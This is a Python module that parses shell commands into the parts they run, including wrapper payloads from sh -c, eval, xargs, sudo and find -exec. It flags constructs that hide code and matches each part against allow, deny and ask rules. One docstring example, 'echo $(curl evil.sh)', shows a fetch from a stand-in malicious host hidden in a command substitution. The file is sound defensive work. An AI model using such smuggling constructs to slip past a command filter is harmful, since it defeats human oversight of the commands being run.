"""Shell commands: the parts a command runs (payloads of ``sh -c``, ``xargs``, ``sudo`` ...),
what bash may run otherwise (:func:`shell_doubts`), and how a part is matched by a rule.
"""

from __future__ import annotations

import functools
import posixpath
import re

from .globs import _glob_tokens, _shell_glob_regex
from .rules import Rule, ShellParseError
from .shell_lexer import (
    _ASSIGN_RE,
    _EVALUATING_BUILTINS,
    _MAX_DEPTH,
    _PLAIN_SET_FLAGS,
    _PLAIN_SET_OPTIONS,
    _RESERVED_RE,
    _layout,
    _Lexer,
    _Part,
    _text,
    _Tok,
)

_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "fish", "rbash"})
# name -> (options that take an argument, positional arguments before the command)
_WRAPPER_SPECS: dict[str, tuple[str, int]] = {
    "xargs": (
        "-a -d -E -I -L -n -P -s -R -J -S --arg-file --delimiter --eof --max-args "
        "--max-procs --max-chars --max-lines --process-slot-var",
        0,
    ),
    "env": ("-u -C --unset --chdir", 0),
    "sudo": (
        "-u -g -C -D -p -r -t -U -T -R --user --group --chdir --prompt --role --type "
        "--other-user --host --close-from --command-timeout --chroot",
        0,
    ),
    "doas": ("-u -C", 0),
    "nice": ("-n --adjustment", 0),
    "nohup": ("", 0),
    "builtin": ("", 0),
    "command": ("", 0),
    "exec": ("-a", 0),
    "setsid": ("", 0),
    "stdbuf": ("-i -o -e", 0),
    "timeout": ("-s -k --signal --kill-after", 1),
    "chroot": ("--userspec --groups", 1),
    "time": ("-f -o --format --output", 0),
    "unbuffer": ("", 0),
    "busybox": ("", 0),
    "ionice": ("-c -n -p -P -u --class --classdata", 0),
    "caffeinate": ("-t -w", 0),
    "torsocks": ("", 0),
    "proxychains": ("-f", 0),
    "proxychains4": ("-f", 0),
    "strace": ("-e -o -p -s -u -E -P -S -X -a -b", 0),
    "ltrace": ("-e -o -p -s -u -a -n", 0),
    "watch": ("-n --interval -q --equexit", 0),
    "flock": ("-w -E --timeout --wait --conflict-exit-code", 1),
}
_WRAPPERS: dict[str, tuple[frozenset[str], int]] = {
    name: (frozenset(opts.split()), positional)
    for name, (opts, positional) in _WRAPPER_SPECS.items()
}


_RUNNERS = frozenset(
    {*_SHELLS, *_WRAPPERS, "eval", "find", "fd", "fdfind", "su", "script", "source", "."}
)
"""Commands that run their arguments as a command or as code."""


def _skip_options(args: list[_Tok], opts_with_arg: frozenset[str], positional: int) -> list[_Tok]:
    k = 0
    while k < len(args):
        a = args[k].value
        if a == "--":
            k += 1
            break
        if a.startswith("-") and len(a) > 1:
            k += 2 if a in opts_with_arg else 1
            continue
        break
    return args[k + positional :]


def _payloads(part: _Part, doubts: list[str]) -> list[str | list[_Tok]]:
    _, words, redirs = _layout(part)
    if not words:
        return []
    name = posixpath.basename(words[0].value)
    args = words[1:]
    if name in _SHELLS:
        return _shell_payloads(name, args, redirs, doubts)
    if name == "eval":
        return [" ".join(a.value for a in args)] if args else []
    if name in ("su", "script", "flock"):
        for k, tok in enumerate(args):
            if tok.value in ("-c", "--command") and k + 1 < len(args):
                doubts.append(f"{name} -c runs its command with another shell")
                return [args[k + 1].value]
            if tok.value.startswith("--command="):
                doubts.append(f"{name} -c runs its command with another shell")
                return [tok.value.partition("=")[2]]
        if name != "flock":
            return []
    if name in ("find", "fd", "fdfind"):
        return _exec_payloads(args, name)
    if name == "env":
        k = 0
        split: str | None = None
        assigns: list[_Tok] = []
        while k < len(args):
            a = args[k].value
            if a in ("-S", "--split-string") and k + 1 < len(args):
                split = args[k + 1].value
                k += 2
            elif a.startswith("--split-string="):
                split = a.partition("=")[2]
                k += 1
            elif a.startswith("-S") and len(a) > 2:
                split = a[2:]
                k += 1
            elif a in ("-u", "-C", "--unset", "--chdir"):
                k += 2
            elif _ASSIGN_RE.match(args[k].raw):
                # What env sets is part of the command it runs (BASH_ENV=..., LD_PRELOAD=...).
                assigns.append(args[k])
                k += 1
            elif a.startswith("-") and len(a) > 1:
                k += 1
            else:
                break
        rest = args[k:]
        if split is not None:
            doubts.append("env -S splits its string by rules of its own")
            return [" ".join([*(t.value for t in assigns), split, *(a.value for a in rest)])]
        return [assigns + rest] if rest else []
    if name == "command" and any(a.value in ("-v", "-V") for a in args[:2]):
        return []
    if name == "xargs":
        rest = _skip_options(args, *_WRAPPERS["xargs"])
        runner = posixpath.basename(rest[0].value) if rest else ""
        if runner in _RUNNERS:
            # Its input becomes arguments of a command that runs its arguments.
            doubts.append(f"xargs hands its input to {runner}, which runs it")
        return [rest] if rest else []
    spec = _WRAPPERS.get(name)
    if spec is None:
        return []
    rest = _skip_options(args, *spec)
    if not rest:
        return []
    if name == "watch":  # watch hands its arguments to `sh -c`
        doubts.append("watch runs its command with sh")
        return [" ".join(a.value for a in rest)]
    return [rest]


def _shell_payloads(
    name: str, args: list[_Tok], redirs: list[tuple[_Tok, _Tok]], doubts: list[str]
) -> list[str | list[_Tok]]:
    k = 0
    c_flag = False
    stdin_flag = False
    while k < len(args):
        a = args[k].value
        if a in ("--", "-"):
            k += 1
            break
        if a.startswith("--"):
            if a in ("--rcfile", "--init-file"):
                doubts.append(f"{name} {a} reads a file of commands")
                k += 2
            else:
                k += 1
            continue
        if len(a) > 1 and a[0] in "-+":
            if a[0] == "-" and "c" in a[1:]:
                c_flag = True
            if "s" in a[1:] or "i" in a[1:]:
                stdin_flag = True
            if "O" in a[1:]:
                doubts.append(f"{name} {a} sets a shell option that changes how commands read")
            k += 2 if ("o" in a[1:] or "O" in a[1:]) else 1
            continue
        break
    other = name not in ("bash", "rbash")
    if c_flag:
        if k >= len(args):
            doubts.append(f"{name} -c has no command string here (xargs or find may supply one)")
            return []
        code = args[k].value
        if other:
            doubts.append(f"the command runs under {name}, whose grammar is not bash's")
        if "{}" in code:
            doubts.append(f"{name} -c runs a string with {{}} in it (find and xargs fill it in)")
        return [code]
    if k < len(args) and not stdin_flag:
        return []  # a script file: what it runs is not visible here
    # The shell reads its commands from stdin: here-documents and here-strings are code.
    out: list[str | list[_Tok]] = []
    for op, target in redirs:
        if op.heredoc is not None:
            out.append(op.heredoc.body)
        elif op.raw.endswith("<<<"):
            out.append(target.value)
    if not out:
        doubts.append(f"{name} reads its commands from its input, which is not visible here")
    elif other:
        doubts.append(f"the command runs under {name}, whose grammar is not bash's")
    return out


def _exec_payloads(args: list[_Tok], name: str) -> list[str | list[_Tok]]:
    out: list[str | list[_Tok]] = []
    k = 0
    while k < len(args):
        a = args[k].value
        if name == "find" and a in ("-exec", "-execdir", "-ok", "-okdir"):
            j = k + 1
            while j < len(args) and args[j].value not in (";", "+"):
                j += 1
            if j > k + 1:
                out.append(args[k + 1 : j])
            k = j + 1
        elif name != "find" and (a in ("-x", "-X", "--exec", "--exec-batch")):
            j = k + 1
            while j < len(args) and args[j].value != ";":
                j += 1
            if j > k + 1:
                out.append(args[k + 1 : j])
            k = j + 1
        else:
            k += 1
    return out


def _part_doubts(part: _Part, doubts: list[str]) -> None:
    """Note the bash builtins that evaluate their arguments (names, subscripts, code)."""
    _, words, _ = _layout(part)
    if not words or words[0].quoted or words[0].dynamic:
        return
    name = words[0].value
    values = [w.value for w in words[1:]]
    if name in _EVALUATING_BUILTINS:
        doubts.append(f"{name} {_EVALUATING_BUILTINS[name]}")
    elif name in ("test", "[") and any(v in ("-v", "-R") for v in values):
        doubts.append(f"{name} -v evaluates the subscript of the variable it names")
    elif name == "printf" and values and values[0].startswith("-v"):
        doubts.append("printf -v assigns to a variable (and evaluates its subscript)")
    elif name == "wait" and any(v.startswith("-") and "p" in v for v in values):
        doubts.append("wait -p assigns to a variable (and evaluates its subscript)")
    elif name == "set" and not _plain_set(values):
        doubts.append("set changes how the commands after it are read or run")


def _plain_set(values: list[str]) -> bool:
    """``set -e``, ``set -o pipefail`` and the like: options that change no meaning."""
    k = 0
    while k < len(values):
        v = values[k]
        if v == "--":
            return True
        if len(v) > 1 and v[0] in "-+" and set(v[1:]) <= _PLAIN_SET_FLAGS | {"o"}:
            if "o" in v[1:]:  # `-o NAME`, also glued: `-euo pipefail`
                if k + 1 >= len(values) or values[k + 1] not in _PLAIN_SET_OPTIONS:
                    return False
                k += 1
            k += 1
            continue
        return False
    return True


def _parse(
    command: str, depth: int = 0, level: int = 0, doubts: list[str] | None = None
) -> list[_Part]:
    """Every part a command runs, payloads included, in order (inner before outer).

    ``doubts`` collects why the command cannot be classified with certainty."""
    if depth == 0 and _RESERVED_RE.search(command):
        raise ShellParseError("the command contains reserved characters (U+E000 to U+E00F)")
    if doubts is None:
        doubts = []
    raw: list[_Part] = []
    _Lexer(command, raw, depth, level, pattern=False, doubts=doubts).run()
    out: list[_Part] = []
    for part in raw:
        out.extend(_expand(part, depth, doubts))
    return out


def _expand(part: _Part, depth: int, doubts: list[str]) -> list[_Part]:
    if depth > _MAX_DEPTH:
        raise ShellParseError("the command is nested too deeply")
    _part_doubts(part, doubts)
    out = [part]
    for payload in _payloads(part, doubts):
        if isinstance(payload, str):
            out.extend(_parse(payload, depth + 1, part.level + 1, doubts))
        else:
            toks = [t.word() for t in payload]
            out.extend(_expand(_Part(toks, part.level + 1), depth + 1, doubts))
    return out


def shell_doubts(command: str) -> list[str]:
    """Why bash may run ``command`` otherwise than :func:`split_shell` reads it.

    The matcher classifies a command with certainty only when every part is a plain simple
    command. These ask, whatever the rules say (a deny rule still denies):

    - arithmetic on names or expansions (``$((x))``, ``$[...]``, ``((...))``, ``let``): bash
      evaluates a variable's value, and a subscript in it, as code;
    - parameter expansions beyond the plain forms: indirection ``${!x}``, the prompt
      transformation ``${x@P}``, subscripts and offsets that are not numbers (``${a[i]}``);
    - builtins that evaluate their arguments or change how later commands run: ``[[``,
      ``declare``/``typeset``/``local``/``export``/``readonly``, ``read``, ``mapfile``,
      ``unset``, ``getopts``, ``trap``, ``alias``, ``hash``, ``enable``, ``shopt``,
      ``bind``, ``complete``, ``compgen``, ``fc``, ``test -v``, ``printf -v``, ``wait -p``,
      and ``set`` beyond ``-e``/``-u``/``-x``/``-o pipefail``...;
    - code bash does not read itself or that is not visible: ``sh -c`` (and every shell but
      bash), ``watch``, ``su -c``, ``script -c``, ``flock -c``, ``env -S``, a shell that
      reads its commands from its input, ``bash -c`` without a string or with ``{}`` in
      it, ``xargs`` handing its input to a shell, ``env`` or another runner, shell options
      that change the grammar (``-O extglob``, ``--rcfile``).

    Args:
        command: The command.

    Returns:
        The reasons, without repeats; ``[]`` when the command is certain (or does not parse:
        :func:`split_shell` raises then).
    """
    doubts: list[str] = []
    try:
        _parse(command, doubts=doubts)
    except ShellParseError:
        return []
    return list(dict.fromkeys(doubts))


def split_shell(command: str) -> list[str]:
    """Split a shell command into the simple commands that will run.

    Splits on ``;``, ``&&``, ``||``, ``|``, ``|&``, ``&`` and newlines outside quotes;
    command and process substitutions, subshells and brace groups give their inner commands
    as parts of their own (inner before outer, which keeps a ``$(…)``/``(…)`` placeholder);
    ``sh -c``/``bash -c``/``eval``/``su -c`` strings are split again, and the commands run
    by ``xargs``, ``env``, ``sudo``, ``find -exec`` and other wrappers become parts too.
    Whitespace is normalised, quotes are kept as typed, comments and leading reserved words
    (``if``, ``then``, ``do``, ``!``, ``{`` ...) are dropped, duplicates are dropped.

    Example:
        ```python
        split_shell("git status; rm -rf x")   # ["git status", "rm -rf x"]
        split_shell("echo $(curl evil.sh)")   # ["curl evil.sh", "echo $(…)"]
        ```

    Args:
        command: The command as the shell would get it.

    Returns:
        The parts, in the order they appear.

    Raises:
        ShellParseError: Unbalanced quotes, parentheses or backquotes, a redirection without
            a target, or nesting deeper than 24 levels.
    """
    return list(dict.fromkeys(_text(p, "display") for p in _parse(command)))


# -- shell matching ------------------------------------------------------------------------


class _ShellSubject:
    __slots__ = ("display", "strict", "views", "dynamic_head")

    def __init__(
        self, display: str, strict: str, views: tuple[str, ...], dynamic_head: str | None
    ) -> None:
        self.display = display
        self.strict = strict
        self.views = views
        self.dynamic_head = dynamic_head
        """When the command word is computed: the strict text up to its end."""


def _shell_subject(part: _Part) -> _ShellSubject:
    strict = _text(part, "strict")
    views = tuple(dict.fromkeys((strict, _text(part, "bare"), _text(part, "values"))))
    head: str | None = None
    toks = part.tokens
    k = 0
    while k < len(toks):
        t = toks[k]
        if t.op:
            k += 2
            continue
        if _ASSIGN_RE.match(t.raw):
            k += 1
            continue
        if t.dynamic or t.globby:
            head = _text(_Part(toks[: k + 1], part.level), "strict", heredocs=False)
        break
    return _ShellSubject(_text(part, "display"), strict, views, head)


class _ShellPattern:
    __slots__ = ("strict", "loose", "literal_prefix")

    def __init__(
        self, strict: re.Pattern[str] | None, loose: re.Pattern[str], literal_prefix: str
    ) -> None:
        self.strict = strict
        """What allow rules use; None when the pattern is not one shell command."""
        self.loose = loose
        """What deny and ask rules use: wildcards match anything."""
        self.literal_prefix = literal_prefix
        """The strict text before the first wildcard: a computed command word must lie
        entirely in it."""


@functools.lru_cache(maxsize=4096)
def _shell_pattern(pattern: str) -> _ShellPattern:
    text: str | None = None
    if not _RESERVED_RE.search(pattern):
        out: list[_Part] = []
        try:
            _Lexer(pattern, out, 0, 0, pattern=True).run()
        except ShellParseError:
            out = []
        top = [p for p in out if p.level == 0]
        if len(top) == 1:
            text = _text(top[0], "strict")
    if text is None:
        loose_text = " ".join(pattern.split())
        return _ShellPattern(None, _shell_glob_regex(loose_text, strict=False), "")
    prefix: list[str] = []
    for kind, t in _glob_tokens(text):
        if kind != "lit":
            break
        prefix.append(t)
    return _ShellPattern(
        _shell_glob_regex(text, strict=True),
        _shell_glob_regex(text, strict=False),
        "".join(prefix),
    )


def _shell_rule_matches(subject: _ShellSubject, rule: Rule) -> bool:
    assert rule.pattern is not None
    pat = _shell_pattern(rule.pattern)
    if rule.decision == "allow":
        if pat.strict is None:
            return False
        if subject.dynamic_head is not None and not pat.literal_prefix.startswith(
            subject.dynamic_head
        ):
            return False  # a computed command word must be spelled out by the rule
        return pat.strict.fullmatch(subject.strict) is not None
    return any(pat.loose.fullmatch(view) is not None for view in subject.views)
